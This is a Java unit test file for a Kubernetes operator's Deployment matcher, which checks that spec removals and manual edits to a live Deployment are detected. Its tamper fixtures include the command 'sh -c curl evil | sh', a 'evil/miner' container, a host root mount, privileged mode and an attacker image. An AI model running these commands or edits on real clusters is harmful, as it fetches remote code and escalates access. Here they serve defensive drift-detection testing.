package dev.streamops.operator.reconcile;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.streamops.operator.OperatorConfig;
import dev.streamops.operator.ServerDefaults;
import dev.streamops.operator.TestResources;
import dev.streamops.operator.api.SidecarSpec;
import dev.streamops.operator.api.StreamOperator;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.LocalObjectReference;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.ResourceRequirementsBuilder;
import io.fabric8.kubernetes.api.model.SecurityContextBuilder;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.client.utils.KubernetesSerialization;

/** When the live Deployment needs an update, and when it must not get one. No API server. */
class DeploymentMatcherTest {
    private static final KubernetesSerialization SERIALIZATION = new KubernetesSerialization();
    private static final FunctionPodTemplate TEMPLATE = new FunctionPodTemplate(OperatorConfig.defaults());

    /** A StreamOperator using every optional field, so that each can be removed. */
    private static StreamOperator full() {
        var sop = TestResources.streamOperator("apps", "transform", "example/transform:1", "readings", "enriched");
        sop.getMetadata().setUid("uid-1");
        var spec = sop.getSpec();
        spec.setTerminationTopic("done");
        spec.setEnv(List.of(new EnvVar("MODE", "fast", null), new EnvVar("LEVEL", "3", null)));
        spec.setResources(new ResourceRequirementsBuilder().addToRequests("cpu", new Quantity("50m"))
                .addToLimits("memory", new Quantity("128Mi")).build());
        spec.setImagePullSecrets(List.of(new LocalObjectReference("regcred")));
        spec.setImagePullPolicy("Always");
        var sidecar = new SidecarSpec();
        sidecar.setPrefetch(20);
        sidecar.setPushConcurrency(4);
        spec.setSidecar(sidecar);
        return sop;
    }

    /** {@code desired} as a real API server returns it: defaults filled in, metadata and status added. */
    private static Deployment live(Deployment desired) {
        var json = (ObjectNode) SERIALIZATION.convertValue(desired, com.fasterxml.jackson.databind.JsonNode.class);
        ServerDefaults.apply(json);
        var live = SERIALIZATION.convertValue(json, Deployment.class);
        var meta = live.getMetadata();
        meta.setUid("d-uid");
        meta.setResourceVersion("4711");
        meta.setGeneration(3L);
        meta.setCreationTimestamp("2026-01-01T00:00:00Z");
        meta.getAnnotations().put("deployment.kubernetes.io/revision", "3");
        meta.getAnnotations().put("javaoperatorsdk.io/previous", "4710");
        meta.getLabels().put("team", "data");
        live.getSpec().getTemplate().getMetadata().getAnnotations()
                .put("kubectl.kubernetes.io/restartedAt", "2026-01-02T00:00:00Z");
        live.setStatus(new io.fabric8.kubernetes.api.model.apps.DeploymentStatusBuilder().withReplicas(1)
                .withReadyReplicas(1).withObservedGeneration(3L).build());
        return live;
    }

    @Test
    void theDeploymentAsTheApiServerStoresItMatches() {
        var desired = TEMPLATE.deployment(full());
        var live = live(desired);
        assertThat(SERIALIZATION.asJson(live)).as("the simulated defaults are really there")
                .contains("terminationMessagePath").contains("dnsPolicy").contains("successThreshold")
                .contains("progressDeadlineSeconds").contains("\"imagePullPolicy\":\"IfNotPresent\"");
        assertThat(DeploymentMatcher.differences(desired, live)).isEmpty();
    }

    @Test
    void theSpecHashIgnoresMapOrderButNotContent() {
        var a = full();
        var b = full();
        b.getSpec().setResources(new ResourceRequirementsBuilder().addToLimits("memory", new Quantity("128Mi"))
                .addToRequests("cpu", new Quantity("50m")).build());
        assertThat(DeploymentMatcher.specHash(TEMPLATE.deployment(a).getSpec()))
                .isEqualTo(DeploymentMatcher.specHash(TEMPLATE.deployment(b).getSpec()));
        b.getSpec().setImage("example/transform:2");
        assertThat(DeploymentMatcher.specHash(TEMPLATE.deployment(a).getSpec()))
                .isNotEqualTo(DeploymentMatcher.specHash(TEMPLATE.deployment(b).getSpec()));
    }

    static Stream<Arguments> removals() {
        return Stream.<Arguments>of(
                removal("terminationTopic", s -> s.getSpec().setTerminationTopic(null)),
                removal("an env entry", s -> s.getSpec().setEnv(List.of(new EnvVar("MODE", "fast", null)))),
                removal("a resource limit", s -> s.getSpec().getResources().setLimits(Map.of())),
                removal("imagePullSecrets", s -> s.getSpec().setImagePullSecrets(null)),
                removal("imagePullPolicy (which the API server defaults)", s -> s.getSpec().setImagePullPolicy(null)),
                removal("sidecar.prefetch", s -> s.getSpec().getSidecar().setPrefetch(null)),
                removal("sidecar.pushConcurrency", s -> s.getSpec().getSidecar().setPushConcurrency(null)),
                removal("inputTopic", s -> s.getSpec().setInputTopic(null)));
    }

    private static Arguments removal(String what, Consumer<StreamOperator> edit) {
        return Arguments.of(what, edit);
    }

    /** What JOSDK's generic matcher took for a server default: the live object has more than desired. */
    @ParameterizedTest(name = "removing {0}")
    @MethodSource("removals")
    void aRemovalFromTheSpecIsADifference(String what, Consumer<StreamOperator> edit) {
        var live = live(TEMPLATE.deployment(full()));
        var sop = full();
        edit.accept(sop);
        assertThat(DeploymentMatcher.differences(TEMPLATE.deployment(sop), live))
                .contains("annotations." + DeploymentMatcher.SPEC_HASH_ANNOTATION);
    }

    @Test
    void removedEnvIsAlsoSeenFieldByField() {
        var live = live(TEMPLATE.deployment(full()));
        var sop = full();
        sop.getSpec().setTerminationTopic(null);
        assertThat(DeploymentMatcher.differences(TEMPLATE.deployment(sop), live)).containsExactlyInAnyOrder(
                "annotations." + DeploymentMatcher.SPEC_HASH_ANNOTATION,
                "template.spec.containers[function].env",
                "template.spec.initContainers[sidecar].env");
    }

    static Stream<Arguments> manualEdits() {
        return Stream.<Arguments>of(
                edit("an env var added (kubectl set env)", d -> function(d).getEnv().add(new EnvVar("DEBUG", "1", null)),
                        "template.spec.containers[function].env"),
                edit("a container added", d -> d.getSpec().getTemplate().getSpec().getContainers()
                        .add(new ContainerBuilder().withName("miner").withImage("evil/miner").build()),
                        "template.spec.containers"),
                edit("a hostPath volume added", d -> d.getSpec().getTemplate().getSpec().getVolumes()
                        .add(new VolumeBuilder().withName("host").withNewHostPath("/", "").build()),
                        "template.spec.volumes"),
                edit("privileged: true on the function", d -> function(d).setSecurityContext(
                        new SecurityContextBuilder().withPrivileged(true).build()),
                        "template.spec.containers[function].securityContext"),
                edit("hostNetwork on the pod", d -> d.getSpec().getTemplate().getSpec().setHostNetwork(true),
                        "template.spec.hostNetwork"),
                edit("a command on the function", d -> function(d).setCommand(List.of("sh", "-c", "curl evil | sh")),
                        "template.spec.containers[function].command"),
                edit("the sidecar's readOnlyRootFilesystem", d -> sidecar(d).getSecurityContext().setReadOnlyRootFilesystem(false),
                        "template.spec.initContainers[sidecar].securityContext.readOnlyRootFilesystem"),
                edit("a probe threshold we set", d -> sidecar(d).getStartupProbe().setFailureThreshold(1),
                        "template.spec.initContainers[sidecar].startupProbe.failureThreshold"),
                edit("the function's image", d -> function(d).setImage("attacker/image:latest"),
                        "template.spec.containers[function].image"),
                edit("the function's pull policy, which the spec sets", d -> function(d).setImagePullPolicy("Never"),
                        "template.spec.containers[function].imagePullPolicy"),
                edit("replicas", d -> d.getSpec().setReplicas(7), "replicas"),
                edit("paused (kubectl rollout pause)", d -> d.getSpec().setPaused(true), "paused"),
                edit("a label of ours removed", d -> d.getMetadata().getLabels().remove(ResourceNames.LABEL_MANAGED_BY),
                        "labels." + ResourceNames.LABEL_MANAGED_BY),
                edit("a pod label of ours changed", d -> d.getSpec().getTemplate().getMetadata().getLabels()
                        .put(ResourceNames.LABEL_COMPONENT, "other"), "template.labels." + ResourceNames.LABEL_COMPONENT),
                edit("the spec hash", d -> d.getMetadata().getAnnotations().put(DeploymentMatcher.SPEC_HASH_ANNOTATION, "x"),
                        "annotations." + DeploymentMatcher.SPEC_HASH_ANNOTATION));
    }

    private static Arguments edit(String what, Consumer<Deployment> edit, String path) {
        return Arguments.of(what, edit, path);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("manualEdits")
    void aManualEditOfWhatWeOwnIsADifference(String what, Consumer<Deployment> edit, String path) {
        var desired = TEMPLATE.deployment(full());
        var live = live(desired);
        edit.accept(live);
        assertThat(DeploymentMatcher.differences(desired, live)).containsExactly(path);
    }

    @Test
    void fieldsWeDoNotOwnMayChange() {
        var desired = TEMPLATE.deployment(full());
        var live = live(desired);
        // Server-defaulted fields the operator leaves unset, scheduling, others' labels and annotations.
        sidecar(live).setImagePullPolicy("Always");
        function(live).setTerminationMessagePolicy("FallbackToLogsOnError");
        live.getSpec().getTemplate().getSpec().setTerminationGracePeriodSeconds(60L);
        live.getSpec().getTemplate().getSpec().setNodeSelector(Map.of("pool", "stream"));
        live.getSpec().setRevisionHistoryLimit(3);
        live.getSpec().getTemplate().getMetadata().getLabels().put("sidecar.istio.io/inject", "false");
        assertThat(DeploymentMatcher.differences(desired, live)).isEmpty();
    }

    private static Container function(Deployment d) {
        return d.getSpec().getTemplate().getSpec().getContainers().stream()
                .filter(c -> c.getName().equals(ResourceNames.FUNCTION_CONTAINER)).findFirst().orElseThrow();
    }

    private static Container sidecar(Deployment d) {
        return d.getSpec().getTemplate().getSpec().getInitContainers().stream()
                .filter(c -> c.getName().equals(ResourceNames.SIDECAR_CONTAINER)).findFirst().orElseThrow();
    }
}
